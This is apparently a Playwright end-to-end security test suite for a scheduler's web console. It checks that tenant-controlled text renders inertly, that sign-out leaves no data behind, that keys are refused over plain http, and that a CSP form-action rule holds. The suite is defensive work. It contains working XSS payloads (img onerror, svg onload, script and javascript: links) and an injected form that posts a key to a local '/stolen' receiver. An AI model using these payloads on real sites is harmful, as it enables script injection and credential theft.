import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from "vitest";
import { type Browser, launchBrowser } from "../support/browser.js";
import { apiAs } from "../support/console-session.js";
import { type SandboxProcess, spawnSandbox } from "../support/sandbox-process.js";
import { waitFor } from "../support/wait.js";

/**
 * The console as an attacker's text meets it: every string a tenant or its webhook receiver
 * controls (a job's name, payload, target URL and headers, a run's error quoting the receiver's
 * answer) and every part of a URL someone can send an operator (a job id, a query, a hash) is
 * markup here, in headless Chromium against `npm start`. Each page must show it as text: no
 * element made of it, no link to a `javascript:` or `data:` URL, no Content-Security-Policy
 * violation (which an inline handler that got in would cause), the page's title untouched.
 */
const KEY = "hostile-text-key";
/** Another tenant's, signing in on the same tab after the first signed out. */
const OTHER_KEY = "next-user-key";
const MARKUP =
  `"'></textarea></code><img src=x id=injected-img onerror="document.title='pwned'">` +
  `<svg id=injected-svg onload="document.title='pwned'"></svg>` +
  `<script id=injected-script>document.title='pwned'</script>` +
  `<a id=injected-a href="javascript:document.title='pwned'">x</a>` +
  `<style id=injected-style>body{display:none}</style>`;
/** Elements the console itself never puts in its main region. */
const FOREIGN = "img, svg, script, style, iframe, object, embed, form[action], [onerror], [onload]";

interface Job {
  id: string;
  name: string;
}
interface Run {
  runId: string;
  jobId: string;
  error: string | null;
  reason: string | null;
}

let sandbox: SandboxProcess;
let browser: Browser;
let page: Page;
let receiver: Server;
let receiverUrl: string;
/** Bodies posted to the receiver's STOLEN_PATH: a form injected into the console that got out. */
const stolen: string[] = [];
const STOLEN_PATH = "/stolen";

const api = <T>(method: string, path: string, body?: unknown) =>
  apiAs<T>(sandbox.url, KEY, method, path, body);

/** What the page made of the markup, if anything, and what it shows as text. */
async function inspect(): Promise<{
  foreign: string[];
  links: string[];
  title: string;
  text: string;
}> {
  return {
    foreign: await page
      .locator(`main :is(${FOREIGN}), [id^="injected"]`)
      .evaluateAll((elements) => elements.map((element) => element.outerHTML.slice(0, 120))),
    links: await page
      .locator("a[href]")
      .evaluateAll((links) => links.map((link) => link.getAttribute("href") ?? "")),
    title: await page.title(),
    text: (await page.locator("main").textContent()) ?? "",
  };
}

async function signIn(key: string): Promise<void> {
  await page.getByLabel("API key", { exact: true }).fill(key);
  await page.getByRole("button", { name: "Sign in" }).click();
}

async function expectInert(where: string): Promise<string> {
  const seen = await inspect();
  expect(seen.foreign, where).toEqual([]);
  expect(seen.title, where).toBe("Scheduler console");
  for (const href of seen.links) expect(href, where).toMatch(/^(\/(?!\/)|#)/);
  expect(
    browser.errors.filter((e) => /Content Security Policy/i.test(e)),
    where,
  ).toEqual([]);
  return seen.text;
}

beforeAll(async () => {
  receiver = createServer((req, res) => {
    let body = "";
    req.setEncoding("utf8");
    req.on("data", (chunk: string) => {
      body += chunk;
    });
    req.on("end", () => {
      if (req.url === STOLEN_PATH) stolen.push(body);
      res.statusMessage = "Broken <img src=x id=injected-status>";
      res.writeHead(500, { "Content-Type": "text/html" });
      res.end(MARKUP);
    });
  });
  await new Promise<void>((resolve) => receiver.listen(0, "127.0.0.1", resolve));
  receiverUrl = `http://127.0.0.1:${(receiver.address() as AddressInfo).port}`;
  [sandbox, browser] = await Promise.all([
    spawnSandbox({
      env: { SCHEDULER_API_KEYS: `${KEY}=hostile-tenant,${OTHER_KEY}=next-tenant` },
      // Nothing here waits for a dispatcher pass (the one run is a trigger's, queued at once):
      // passes a minute apart make fewer requests than one a second.
      tickSeconds: 60,
    }),
    launchBrowser(),
  ]);
  page = await browser.context.newPage();
  await page.goto(`${sandbox.url}/console`);
  await signIn(KEY);
  await page.getByRole("heading", { name: "Jobs", level: 1 }).waitFor();
}, 180_000);

afterAll(async () => {
  await browser?.close();
  await sandbox?.stop();
  await new Promise((resolve) => receiver?.close(resolve));
});

describe("text an attacker controls, in the console", () => {
  let named: Job;
  let hook: Job;
  let dead: Run;

  it("shows a job's name, payload, target URL and a run's error as text on every page", async () => {
    named = await api<Job>("POST", "/jobs", {
      name: MARKUP.slice(0, 200),
      type: "noop",
      payload: { note: MARKUP },
      schedule: { cron: "0 9 * * *", timezone: "UTC" },
    });
    hook = await api<Job>("POST", "/jobs", {
      name: "javascript:document.title='pwned'",
      type: "http",
      payload: { note: MARKUP },
      target: {
        url: `${receiverUrl}/hook/"'><svg onload=alert(1)>?q="'><img src=x onerror=alert(1)>`,
        headers: { "X-Note": `"'><img src=x onerror=alert(1)>` },
      },
      retry: { maxAttempts: 1 },
      schedule: { runAt: "2031-01-01T00:00:00Z" },
    });
    // Its run, queued at once (the sandbox's passes, a minute apart, are not waited for).
    await api<Run>("POST", `/jobs/${hook.id}/trigger`);
    dead = await waitFor(
      "the webhook's run to be a dead letter",
      async () =>
        (await api<{ items: Run[] }>("GET", "/dead-letters")).items.find(
          (r) => r.jobId === hook.id,
        ),
      30_000,
      250,
    );
    expect(dead.error).toContain("<img src=x id=injected-img");
    // The run tables show a dead run's reason, which quotes its error.
    expect(dead.reason).toContain("<img src=x id=injected-img");

    await page.goto(`${sandbox.url}/console`);
    await page.getByRole("link", { name: /javascript:/ }).waitFor();
    const list = await expectInert("jobs");
    expect(list).toContain(MARKUP.slice(0, 200));

    await page.goto(`${sandbox.url}/console/jobs/${named.id}`);
    await page.locator("h1 bdi").waitFor();
    expect(await page.locator("h1 bdi").textContent()).toBe(MARKUP.slice(0, 200));
    await page.getByRole("button", { name: "Edit job" }).click();
    const payload = page.getByLabel("Payload (JSON)");
    expect(JSON.parse(await payload.inputValue())).toEqual({ note: MARKUP });
    expect(await page.getByLabel("Name", { exact: true }).inputValue()).toBe(MARKUP.slice(0, 200));
    await expectInert("a job named with markup, its edit form open");

    await page.goto(`${sandbox.url}/console/jobs/${hook.id}`);
    const row = page.locator(`tr[data-run-id="${dead.runId}"]`);
    await row.locator(".status-dead").waitFor({ timeout: 30_000 });
    expect(await row.locator("td.free-text").textContent()).toBe(dead.reason);
    expect(await page.locator("dd code").textContent()).toContain(`"'><svg onload=alert(1)>`);
    await expectInert("a webhook job whose receiver answered markup");

    await page.getByRole("link", { name: "Dead letters" }).click();
    const letter = page.locator(`tr[data-run-id="${dead.runId}"]`);
    await letter.waitFor();
    expect(await letter.locator("td.free-text").textContent()).toBe(dead.reason);
    await expectInert("dead letters");
  });

  it("shows markup in a job link's id, query and hash as text, and no job", async () => {
    const encoded = encodeURIComponent(MARKUP);
    for (const path of [
      `/console/jobs/${encoded}`,
      `/console/jobs/${encoded}?${encoded}#${encoded}`,
      `/console/jobs/%3Cimg%20src%3Dx%20id%3Dinjected-id%3E%2F..%2F..%2Fdead-letters`,
    ]) {
      await page.goto(`${sandbox.url}${path}`);
      await page.getByRole("heading", { name: "Job not found", level: 1 }).waitFor();
      await expectInert(path);
    }
    expect(await page.locator("main code").textContent()).toBe(
      "<img src=x id=injected-id>/../../dead-letters",
    );
    await page.goto(`${sandbox.url}/console?${encoded}#${encoded}`);
    await page.getByRole("heading", { name: "Jobs", level: 1 }).waitFor();
    await expectInert("the jobs page with markup in its query and hash");
  });
});

describe("long text an attacker controls, in the console's layout", () => {
  /** How far the page is wider than its window: a long word must wrap, not push the page sideways. */
  const overflow = async () =>
    Number(await page.evaluate("document.documentElement.scrollWidth - window.innerWidth"));

  it("wraps a link's long job id, a long webhook URL and an edit conflict's long values: no page wider than the window", async () => {
    // A link someone sends: the "Job not found" page quotes the id it names.
    await page.goto(`${sandbox.url}/console/jobs/${"q".repeat(3000)}`);
    await page.getByRole("heading", { name: "Job not found", level: 1 }).waitFor();
    expect(await overflow(), "a long id in a link").toBeLessThanOrEqual(0);

    const job = await api<Job>("POST", "/jobs", {
      name: "a long webhook URL",
      type: "http",
      target: { url: `${receiverUrl}/${"a".repeat(1800)}` },
      schedule: { every: "PT1H" },
    });
    await page.goto(`${sandbox.url}/console/jobs/${job.id}`);
    await page.locator("dd code").waitFor();
    expect(await overflow(), "a long webhook URL").toBeLessThanOrEqual(0);

    // Someone else's edit, made while this form is open, with one long word in its payload.
    await page.getByRole("button", { name: "Edit job" }).click();
    const changed = await fetch(`${sandbox.url}/jobs/${job.id}`, {
      method: "PATCH",
      headers: {
        Authorization: `Bearer ${KEY}`,
        "Content-Type": "application/json",
        "If-Match": '"1"',
      },
      body: JSON.stringify({ payload: { note: "p".repeat(3000) } }),
    });
    expect(changed.status).toBe(200);
    await page.getByLabel("Name", { exact: true }).fill("mine");
    await page.getByRole("button", { name: "Save changes" }).click();
    await page
      .getByRole("heading", { name: "This job changed while you were editing it" })
      .waitFor();
    expect(await overflow(), "an edit conflict's long values").toBeLessThanOrEqual(0);
  });
});

describe("a right-to-left override an attacker puts in a link", () => {
  it("reverses nothing of the console's own words beside the job id it quotes", async () => {
    // U+202E reverses what follows it to the end of its paragraph, unless the quote is isolated.
    await page.goto(`${sandbox.url}/console/jobs/%E2%80%AEdiova`);
    await page.getByRole("heading", { name: "Job not found", level: 1 }).waitFor();
    // The override the id leaves open is closed at its end (U+202C, console/isolable.ts).
    expect(await page.locator("main code").textContent()).toBe("\u202Ediova\u202C");
    // "for you." after the quoted id still reads left to right: its "f" left of its "y".
    const letterLefts: number[] = await page.evaluate(
      `(() => { const text = document.querySelector('main code').nextSibling; const at = (i) => { const range = document.createRange(); range.setStart(text, i); range.setEnd(text, i + 1); return range.getBoundingClientRect().left; }; const start = text.data.indexOf("for you"); return [at(start), at(start + 4)]; })()`,
    );
    expect(letterLefts[0]).toBeLessThan(letterLefts[1] ?? Number.NaN);
  });
});

describe("signing out on a shared screen", () => {
  it("leaves nothing of the tenant on the page or in the address: the next user's session starts clean", async () => {
    await page.goto(`${sandbox.url}/console`);
    await page.getByText("Create a job", { exact: true }).click();
    const form = page.getByRole("form", { name: "Create a job" });
    await form.getByLabel("Name", { exact: true }).fill("merger with Initech");
    await form.getByRole("button", { name: "Create job" }).click();
    await page.getByRole("heading", { name: /merger with Initech/, level: 1 }).waitFor();
    const jobId = page.url().split("/").at(-1) ?? "";
    await page.getByRole("button", { name: "Sign out" }).click();
    await page.getByRole("heading", { name: "Sign in", level: 1 }).waitFor();
    expect(await page.locator("body").textContent()).not.toContain("Initech");
    expect(page.url()).toBe(`${sandbox.url}/console`);
    // Nothing of the key is kept anywhere the next user's session could read it.
    expect(await page.evaluate("[sessionStorage.length, localStorage.length]")).toEqual([0, 0]);

    await signIn(OTHER_KEY);
    await page.getByText("No jobs yet.").waitFor();
    const shown = await page.locator("body").textContent();
    expect(shown).not.toContain("Initech");
    expect(shown).not.toContain(jobId);
  });

  it("an answer that comes back after Sign out (a slow create) puts nothing of the tenant on the screen", async () => {
    await page.getByRole("button", { name: "Sign out" }).click();
    await signIn(KEY);
    await page.getByText("Create a job", { exact: true }).click();
    // A create that takes its time (a cold API function): the answer is held until after Sign out.
    let release = () => {};
    const held = new Promise<void>((resolve) => {
      release = resolve;
    });
    const jobsRoute = (url: URL) => url.pathname === "/jobs";
    await page.route(jobsRoute, async (route) => {
      if (route.request().method() !== "POST") return route.continue();
      const response = await route.fetch();
      await held;
      return route.fulfill({ response });
    });
    const form = page.getByRole("form", { name: "Create a job" });
    await form.getByLabel("Name", { exact: true }).fill("layoffs in March");
    onTestFinished(() => page.unroute(jobsRoute));
    const answered = page.waitForResponse(
      (r) => r.request().method() === "POST" && new URL(r.url()).pathname === "/jobs",
    );
    await form.getByRole("button", { name: "Create job" }).click();
    await page.getByRole("button", { name: "Sign out" }).click();
    await page.getByRole("heading", { name: "Sign in", level: 1 }).waitFor();
    release();
    expect((await answered).status()).toBe(201);
    // What the answer would have done (an announcement, a move to the job's page) happens at once.
    await page.waitForTimeout(500);
    expect(await page.locator("body").textContent()).not.toContain("layoffs");
    expect(page.url()).toBe(`${sandbox.url}/console`);
  });
});

describe("where the credential is kept", () => {
  it("stays with its tab: a reload keeps it, another tab and a link opened in a new tab start at the sign-in", async () => {
    // What docs/console.md says of the tab's sessionStorage, as far as a script can see it (a
    // closed tab reopened by the browser, or a restored session, is not scriptable).
    const tab = await browser.context.newPage();
    onTestFinished(() => tab.close());
    await tab.goto(`${sandbox.url}/console`);
    await tab.getByLabel("API key", { exact: true }).fill(KEY);
    await tab.getByRole("button", { name: "Sign in" }).click();
    await tab.getByRole("heading", { name: "Jobs", level: 1 }).waitFor();
    await tab.reload();
    await tab.getByRole("heading", { name: "Jobs", level: 1 }).waitFor();

    const opened = browser.context.waitForEvent("page");
    await tab.getByRole("link", { name: "Dead letters" }).click({ modifiers: ["Control"] });
    const linked = await opened;
    onTestFinished(() => linked.close());
    await linked.getByRole("heading", { name: "Sign in", level: 1 }).waitFor();
    expect(linked.url()).toBe(`${sandbox.url}/console/dead-letters`);

    const address = tab.url();
    await tab.close();
    const anew = await browser.context.newPage();
    onTestFinished(() => anew.close());
    await anew.goto(address);
    await anew.getByRole("heading", { name: "Sign in", level: 1 }).waitFor();
    expect(await anew.evaluate("sessionStorage.length")).toBe(0);
  });
});

describe("a key typed into the console reached over plain http by a name that is not loopback", () => {
  it("is refused naming the field, as the CLI refuses it: nothing is sent with it, nothing kept", async () => {
    // The sandbox behind a tunnel's http:// name (API_URL's host, which it answers): every
    // request to that name is passed on to it, as the tunnel would, and the key seen on the way.
    const origin = "http://tunnel.example";
    const sentWithKey: string[] = [];
    const tab = await browser.context.newPage();
    onTestFinished(() => tab.close());
    await tab.route(`${origin}/**`, async (route) => {
      const request = route.request();
      const { authorization, ...headers } = await request.allHeaders();
      const url = new URL(request.url());
      if (authorization !== undefined) sentWithKey.push(`${request.method()} ${url.pathname}`);
      const { host: _host, ...passed } = headers;
      const response = await route.fetch({
        url: `${sandbox.url}${url.pathname}${url.search}`,
        headers: authorization === undefined ? passed : { ...passed, authorization },
      });
      await route.fulfill({ response });
    });
    await tab.goto(`${origin}/console`);
    await tab.getByLabel("API key", { exact: true }).fill(KEY);
    await tab.getByRole("button", { name: "Sign in" }).click();
    const refusal = tab.getByText(
      "API key: a bearer key is not sent over http: to tunnel.example, where anyone on the way can read it",
    );
    await refusal
      .or(tab.getByRole("heading", { name: "Jobs", level: 1 }))
      .first()
      .waitFor();
    expect(sentWithKey).toEqual([]);
    expect(await refusal.isVisible()).toBe(true);
    expect(await tab.evaluate("sessionStorage.length")).toBe(0);
  });
});

describe("a key typed into the console reached over plain http by a loopback name under localhost", () => {
  it("signs in: the sandbox answers the names under localhost as loopback (RFC 6761), and so do browsers", async () => {
    // The sandbox's own rule (shared/api/local-server.ts isLoopbackName) answers console.localhost;
    // the page route stands in for the browser's own resolution of the name to 127.0.0.1.
    const origin = "http://console.localhost";
    const tab = await browser.context.newPage();
    onTestFinished(() => tab.close());
    await tab.route(`${origin}/**`, async (route) => {
      const url = new URL(route.request().url());
      const { host: _host, ...headers } = await route.request().allHeaders();
      const response = await route.fetch({
        url: `${sandbox.url}${url.pathname}${url.search}`,
        headers,
      });
      await route.fulfill({ response });
    });
    await tab.goto(`${origin}/console`);
    await tab.getByLabel("API key", { exact: true }).fill(KEY);
    await tab.getByRole("button", { name: "Sign in" }).click();
    const refusal = tab.getByText("API key: a bearer key is not sent over http:");
    await refusal
      .or(tab.getByRole("heading", { name: "Jobs", level: 1 }))
      .first()
      .waitFor();
    expect(await refusal.isVisible()).toBe(false);
  });
});

describe("the OIDC callback's address where sign-in takes a key", () => {
  it("leads to the key sign-in form, and from there to the jobs (a bookmark, an old history entry)", async () => {
    // A deployment that signed in with OIDC once, or a callback link kept in history: this one
    // has no callback to finish, and "Signing in…" would wait forever.
    const tab = await browser.context.newPage();
    onTestFinished(() => tab.close());
    await tab.goto(`${sandbox.url}/console/callback?code=old-code&state=old-state`);
    await tab.getByRole("heading", { name: "Sign in", level: 1 }).waitFor({ timeout: 5_000 });
    expect(tab.url()).toBe(`${sandbox.url}/console`);
    await tab.getByLabel("API key", { exact: true }).fill(KEY);
    await tab.getByRole("button", { name: "Sign in" }).click();
    await tab.getByRole("heading", { name: "Jobs", level: 1 }).waitFor();

    // Signed in, the callback's address (with or without its trailing slash) is the jobs page.
    for (const path of ["/console/callback", "/console/callback/"]) {
      await tab.goto(`${sandbox.url}${path}`);
      await tab.getByRole("heading", { name: "Jobs", level: 1 }).waitFor({ timeout: 5_000 });
      expect(tab.url(), path).toBe(`${sandbox.url}/console`);
    }
  });
});

describe("a form injected into the console", () => {
  it("posts nowhere: the page's policy allows no form submission (its own forms send fetch calls)", async () => {
    // Markup that got past the text rendering, or a browser extension's: form-action does not
    // fall back to default-src, so without it such a form posts what it holds to any origin.
    const tab = await browser.context.newPage();
    onTestFinished(() => tab.close());
    const errorsBefore = browser.errors.length;
    // The violation it reports is this test's own, not one a later check should see.
    onTestFinished(() => {
      browser.errors.splice(errorsBefore);
    });
    await tab.goto(`${sandbox.url}/console`);
    await tab.getByRole("heading", { name: "Sign in", level: 1 }).waitFor();
    const posted = tab
      .waitForRequest((request) => request.url() === `${receiverUrl}${STOLEN_PATH}`)
      .then(
        () => "posted to the receiver",
        () => "closed unposted",
      );
    const violated = tab
      .evaluate(
        `new Promise((resolve) => {
          document.addEventListener("securitypolicyviolation", (event) => resolve("blocked by " + event.effectiveDirective));
          const form = document.createElement("form");
          form.method = "post";
          form.action = ${JSON.stringify(`${receiverUrl}${STOLEN_PATH}`)};
          const field = form.appendChild(document.createElement("input"));
          field.name = "key";
          field.value = "typed-into-the-page";
          document.body.appendChild(form);
          form.submit();
        })`,
      )
      .catch(() => "navigated away");
    expect(await Promise.race([posted, violated])).toBe("blocked by form-action");
    expect(stolen).toEqual([]);
    expect(tab.url()).toBe(`${sandbox.url}/console`);
  });
});
